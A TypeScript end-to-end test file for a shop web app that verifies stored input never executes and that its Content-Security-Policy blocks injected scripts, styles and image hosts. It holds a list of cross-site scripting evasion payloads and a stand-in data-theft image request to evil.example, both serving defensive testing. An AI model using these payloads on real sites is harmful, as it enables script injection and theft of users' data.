/**
 * Scripts in every field that other people see: none runs. The Content-Security-Policy blocks every injection; each
 * journey fails when it refuses a part of a screen.
 * @module-tag long
 */
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { textsOf } from '#shop/kernel/text/translations.ts';
import { m as coupon } from '#words/coupon.ts';
import { m as track } from '#words/track.ts';
import { typedCheckout } from '../../faults/shop.ts';
import {
  DESK,
  doAs,
  logInAsAdmin,
  open,
  openAsAdmin,
  type Visitor,
  visit,
} from '../../support/browser/browser.ts';
import { sharedBrowser } from '../../support/browser/shared-browser.ts';
import { openShopInBrowser } from '../../support/browser/shop-in-browser.ts';
import { cookiesIn } from '../../support/cookies.ts';
import { post } from '../../support/post.ts';
import { ADMIN } from '../../support/running-shop.ts';
import { Shopper } from '../../support/shopper.ts';

const { shop, asVisitor, sql } = openShopInBrowser();

/** Each would set `pwned`. After OWASP's list of filter evasions. */
const CORPUS = [
  ...['<script>pwned=1</script>', '</title><script>pwned=1</script>', '</script><script>pwned=1</script>'],
  ...['<math><mtext><script>pwned=1</script>', '</textarea><script>pwned=1</script>'],
  ...['--><script>pwned=1</script><!--', ']]><script>pwned=1</script>'],
  ...['<img src=x onerror=pwned=1>', '"><svg/onload=pwned=1>', "'><svg/onload=pwned=1>"],
  ...['"autofocus onfocus=pwned=1 x="', '<iframe srcdoc="<script>top.pwned=1</script>">'],
  ...['<a href="javascript:pwned=1">x</a>', 'javascript:pwned=1//', '<base href="//evil.example/">'],
  ...['\\u003cscript\\u003epwned=1\\u003c/script\\u003e', '&lt;script&gt;pwned=1&lt;/script&gt;'],
  ...['$' + '{pwned=1}{{pwned=1}}<%=pwned=1%>', '<style>@import"javascript:pwned=1"</style>'],
  '<meta http-equiv=refresh content="0;url=//evil.example">',
];

const send = (path: string, form: Record<string, string>, cookie = '') =>
  post(shop().url, path, form, cookie);

/** Scripts that ran, and elements made from text. */
async function harm(page: Page): Promise<unknown[]> {
  return page.evaluate(() => {
    const built = document.querySelectorAll(
      'img[src="x"], svg[onload], iframe, base, math, [onfocus], a[href^="javascript"]',
    );
    return ['pwned' in window && 'a script ran', ...[...built].map((element) => element.outerHTML)].filter(
      Boolean,
    );
  });
}

/** Returns the customer's cookies. */
async function writeEverywhere(evil: string, n: number, admin: string): Promise<string> {
  const email = `evil-${n}@example.com`;
  const message = { name: evil, email, subject: evil, message: evil, messageId: crypto.randomUUID() };
  // The phone field takes no free text.
  expect((await send('/contact', { ...message, phone: evil.slice(0, 30) })).status).toBe(400);
  expect((await send('/contact', message)).status).toBe(200);
  const chat = cookiesIn(await send('/chat/guest', { name: evil.slice(0, 50), email }));
  const password = { password: 'cloth-123', confirmPassword: 'cloth-123' };
  const customer = cookiesIn(await send('/signup', { fullName: evil, email, ...password }));
  for (const cookie of [chat, customer])
    await send('/chat/messages', { text: evil, clientId: crypto.randomUUID() }, cookie);
  const gift = { gift: 'on', giftNote: evil, notes: evil };
  const form = await typedCheckout(new Shopper(shop().url, customer), 'ml-001', evil);
  const order = { ...form, fullName: evil, email, city: evil, ...gift };
  expect((await send('/checkout', order, customer)).headers.get('location')).toBe('/profile');
  await reviewAs(evil, n);
  const same = (...names: string[]) => Object.assign({}, ...names.map((name) => textsOf(name, () => evil)));
  const place = { image: '/pictures/demo/ml-001.webp', mainCategory: 'Men', category: 'Latha' };
  const product = {
    productId: `EVIL-${n}`,
    ...same('name', 'description'),
    price: '10',
    stock: '5',
    ...place,
  };
  expect((await send('/admin/products?new=1', product, admin)).status).toBe(303);
  const banner = { imageUrl: '/pictures/demo/ml-001.webp', ...same('title', 'subtitle') };
  expect((await send('/admin/sliders?new=1', banner, admin)).status).toBe(303);
  await send('/admin/categories', { words: `${evil.replaceAll(',', ' ')}, other` }, admin);
  await send('/admin/categories', { name: evil.slice(0, 50) }, admin);
  await send('/admin/saved-replies', same('text'), admin);
  return customer;
}

/** Reviews the customer's first order; the review is published. */
async function reviewAs(evil: string, n: number): Promise<void> {
  await sql(
    `insert into reviews ("id", "orderId", "productId", "stars", "trueToColour", "text", "name", "state", "writtenAt", "answer", "reports")
      select ?, "orderId", "productId", 5, 'yes', ?, ?, 'published', 1, ?, 1 from "orderLines"
      join orders on orders.id = "orderId" where "userEmail" = ?`,
    ...[`evil-${n}`, evil, evil, evil, `evil-${n}@example.com`],
  );
}

/** Sends a filled-in form that is refused, because it shows its input again. */
async function typeHere(page: Page, path: string, fields: readonly string[], press: string): Promise<void> {
  for (const evil of CORPUS) {
    await open(page, path);
    // The coupon's field is folded.
    await page.locator('main details').evaluateAll((all) => all.map((one) => one.setAttribute('open', '')));
    for (const name of fields) await page.locator(`main [name="${name}"]`).fill(evil);
    const answered = page.waitForResponse((answer) => answer.request().method() === 'POST');
    await page.getByRole('main').getByRole('button', { name: press, exact: true }).click();
    await answered;
    await page.locator('main [aria-invalid="true"], main .notice').first().waitFor();
    expect({ path, evil, harm: await harm(page) }).toEqual({ path, evil, harm: [] });
  }
}

async function expectHarmless(page: Page, ...paths: string[]): Promise<void> {
  for (const path of paths) {
    await open(page, path);
    expect({ path, harm: await harm(page) }).toEqual({ path, harm: [] });
  }
}

test(
  'no script in a field runs: not for the admin, not for the customer, not for a guest',
  () =>
    asVisitor({ viewport: DESK }, async ({ page }) => {
      const admin = cookiesIn(await send('/login', ADMIN));
      let customer = '';
      for (const [n, evil] of CORPUS.entries()) customer = await writeEverywhere(evil, n, admin);
      const reviews = [1, 2, 3, 4].map((one) => `/product/ml-001?page=${one}`);
      const lists = ['/', '/products?sort=newest', '/ur', '/roman', '/roman/products?sort=newest'];
      await expectHarmless(page, ...lists, ...reviews, '/products?q=pwned');
      await page.getByRole('combobox', { name: 'Search' }).fill('pwned scrip');
      await page.getByRole('listbox', { name: 'Suggestions' }).getByRole('option').first().waitFor();
      expect(await harm(page)).toEqual([]);
      await page
        .getByRole('link', { name: /^View .*pwned/ })
        .first()
        .click();
      await page.getByText('Stock Available').waitFor();
      expect(await harm(page)).toEqual([]);
      await typeHere(page, '/track', ['orderNumber', 'phone'], track.submit);
      await logInAsAdmin(page);
      const orders = (await sql('select id from orders')).map(({ id }) => `order=${id}`).join('&');
      await expectHarmless(
        page,
        ...['/admin', '/admin/orders', '/admin/orders?q=pwned', '/admin/contact-messages', '/admin/sliders'],
        ...['/admin/products?sort=newest', '/admin/products?new=1', '/admin/categories'],
        ...['/admin/reviews?list=published', '/admin/reviews?list=reported'],
        ...[`/admin/orders/papers?kind=slip&${orders}`, '/admin/chats', '/admin/chats?q=pwned'],
      );
      const chats = page.getByRole('main').getByRole('link', { name: /pwned/ });
      for (let n = 0; n < Math.min(10, await chats.count()); n += 1) {
        const name = (await chats.nth(n).getAttribute('href')) ?? '';
        await chats.nth(n).click();
        await page.waitForURL((url) => url.href.endsWith(name));
        await page.getByRole('log').getByText(/pwned/).first().waitFor();
        expect(await harm(page)).toEqual([]);
      }
      await page.context().clearCookies();
      const [, name = '', value = ''] = /(\S*session\S*?)=([^;]*)/.exec(customer) ?? [];
      await page.context().addCookies([{ name, value, url: shop().url }]);
      await expectHarmless(page, '/profile', '/cart');
      await send('/cart/items', { productId: 'wl-001', quantity: '1' }, customer);
      await typeHere(page, '/cart', ['coupon'], coupon.apply);
    }),
  240_000,
);

const PICTURE = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

async function asWatched(journey: (visitor: Visitor) => Promise<void>): Promise<void> {
  await doAs(await visit(await sharedBrowser(), shop().url, { viewport: DESK }), async (visitor) => {
    await visitor.page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        console.warn(`refused: ${effectiveDirective} ${blockedURI}`),
      );
    });
    await journey(visitor);
  });
}

test('a script, a style, a handler and text as code are refused', async () => {
  await asWatched(async ({ page, complaints }) => {
    await open(page, '/contact');
    const found = await page.evaluate(() => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => void };
      };
      const script = document.createElement('script');
      const acts = {
        innerHTML: () => {
          document.createElement('div').innerHTML = '<img src=x onerror=pwned=1>';
        },
        'script text': () => {
          script.textContent = 'pwned=1';
          document.body.append(script);
        },
        'script address': () => {
          script.src = '/assets/x.js';
        },
        'a second policy': () => trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
        'a worker': () => new Worker('/assets/x.js'),
      };
      const allowed = Object.entries(acts).flatMap(([name, act]) => {
        try {
          act();
          return name;
        } catch (error) {
          return error instanceof TypeError ? [] : `${name}: ${error}`;
        }
      });
      const element = document.createElement('p');
      element.setAttribute('style', 'position: fixed');
      document.body.append(element);
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
      const { position } = getComputedStyle(element);
      const { display } = getComputedStyle(document.body);
      return { allowed, position, display, pwned: 'pwned' in window };
    });
    expect(found).toEqual({ allowed: [], position: 'static', display: 'block', pwned: false });
    await expect
      .poll(() => complaints.some((line) => line.startsWith('refused: require-trusted-types-for')))
      .toBe(true);
  });
});

test('pictures show from the hosts that the catalogue names, from no other, and from a new one once it is saved', async () => {
  await asWatched(async ({ page, complaints }) => {
    await page
      .context()
      .route(/^https:\/\/(?:cdn|evil)\.example\//, (route) =>
        route.fulfill({ body: PICTURE, contentType: 'image/gif' }),
      );
    await openAsAdmin(page, '/admin/products');
    const policy = async (path: string) =>
      (await fetch(shop().url + path)).headers.get('content-security-policy') ?? '';
    expect(await policy('/about')).toContain("; img-src 'self' data:;");
    await page.getByRole('link', { name: 'Add Product' }).click();
    await page.getByRole('main').getByText('Enter the address of a picture', { exact: true }).click();
    const form = {
      ...{ productId: 'CDN-1', name: 'A cloth from elsewhere', description: 'From elsewhere.' },
      ...{ price: '900', stock: '4', image: 'https://cdn.example/cloth.gif' },
    };
    for (const [name, text] of Object.entries(form))
      await page.locator(`main form [name=${name}]`).first().fill(text);
    await page.getByLabel('Main Category').selectOption('Men');
    await page.getByLabel('Subcategory').selectOption('Latha');
    await page.getByText('Shown once saved').waitFor();
    await page.getByRole('button', { name: 'Save Product' }).click();
    // A new host needs a page load with the new policy; the toast may be gone by then.
    const row = page.locator('[src="https://cdn.example/cloth.gif"]');
    await row.scrollIntoViewIfNeeded();
    await expect.poll(() => row.evaluate((one: HTMLImageElement) => one.naturalWidth)).toBe(1);
    expect(complaints).toEqual([]);
    const pages = ['/contact', '/products?mainCategory=Men&sort=newest'];
    for (const path of pages)
      expect(await policy(path)).toContain("; img-src 'self' data: https://cdn.example;");
    await page.goto('/contact');
    await page.evaluate(() => {
      new Image().src = 'https://evil.example/?stolen';
    });
    await expect
      .poll(() => complaints.some((line) => line.includes('img-src https://evil.example')))
      .toBe(true);
  });
});
